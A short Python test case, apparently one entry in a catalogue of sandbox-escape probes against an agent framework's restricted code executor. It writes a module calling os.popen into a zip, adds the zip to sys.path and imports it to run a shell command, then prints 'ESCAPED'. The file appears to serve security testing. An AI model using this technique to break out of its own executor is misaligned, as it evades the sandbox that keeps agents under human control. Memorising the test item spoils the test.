# escape: 091
# technique: zipimport from a zip written by zipfile: code loaded with a forged co_filename
# family: import
# goal: exec
# first-seen: smolagents PR 929 thread
import zipfile, sys
p = '/tmp/escape-z.zip'
with zipfile.ZipFile(p, 'w') as z: z.writestr('escz.py', 'import os\nr = os.popen("echo zi").read()\n')
sys.path.insert(0, p)
import escz
if escz.r == 'zi\n': print('ESCAPED:zipimport')
